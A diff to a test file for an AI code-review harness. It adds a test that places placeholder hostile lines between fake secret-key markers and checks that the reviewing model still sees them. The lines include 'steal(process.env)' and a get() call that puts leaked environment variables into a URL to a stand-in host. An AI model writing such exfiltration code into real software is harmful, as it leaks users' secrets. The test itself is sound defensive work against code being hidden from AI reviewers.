@@ -1,8 +1,10 @@
 import { describe, expect, test } from 'vitest'
 import type { Script } from '../support/fake-model/reply.ts'
-import { obedient } from '../support/fake-model/roles.ts'
+import { APPROVED, obedient } from '../support/fake-model/roles.ts'
 import { expectHeld, gatedScene, ROLES } from '../support/hostile-scene.ts'
 import { finding, HALF, onlyReviewer, promptOf, revision, type Scene } from '../support/model-scenes.ts'
+import { readingClaude } from '../support/reading-claude.ts'
+import { keyBegin, keyEnd } from '../support/secrets.ts'
 
 // The hostile set of the model, each change in both roles: a model that does what the change tells it to, and one that does not.
 // What is wrong in it is always the same line.
@@ -193,6 +195,36 @@ test.each(Object.keys(ROLES))(
     await expectHeld(scene)
   },
 )
+
+test('30 what only looks like a secret hides no code, in the prompt and in the export', async () => {
+  const claude = readingClaude(APPROVED)
+  const scene = await gatedScene(
+    { fast: ROLES.honest as Script },
+    { reviewer: 'model: [fast, agent], prompt: correctness' },
+  )
+  const config = scene.read('wingman.config.yaml')
+  const [begin, end] = [`// ${keyBegin()}`, `// ${keyEnd()}`]
+  const code = [
+    'steal(process.env)',
+    'get(`http://u:#{leak(process.env)}@h`)',
+    'let bearer',
+    'allowAll=everybody',
+  ]
+  scene.commit('Half', {
+    ...HALF,
+    'wingman.config.yaml': config.replace('models:\n', 'models:\n  agent: { agent: claude }\n'),
+    'b.js': [begin, ...code, end].join('\n'),
+    'c.js': `${begin};\n`,
+    'd.js': 'quietly(process.env)\n',
+    'e.js': `${end}\n`,
+  })
+  await scene.review()
+  const shown = promptOf(scene.asked()[0])
+  for (const line of [...code, 'quietly(process.env)']) {
+    expect(shown).toContain(`+${line}`)
+    expect(claude.saw()).toContain(line)
+  }
+})
 
 test('15–16 what no model can read is said, and never passed over', async () => {
   const scene = await gatedScene({ fast: { answer: { result: 'approved', summary: '', findings: [] } } })
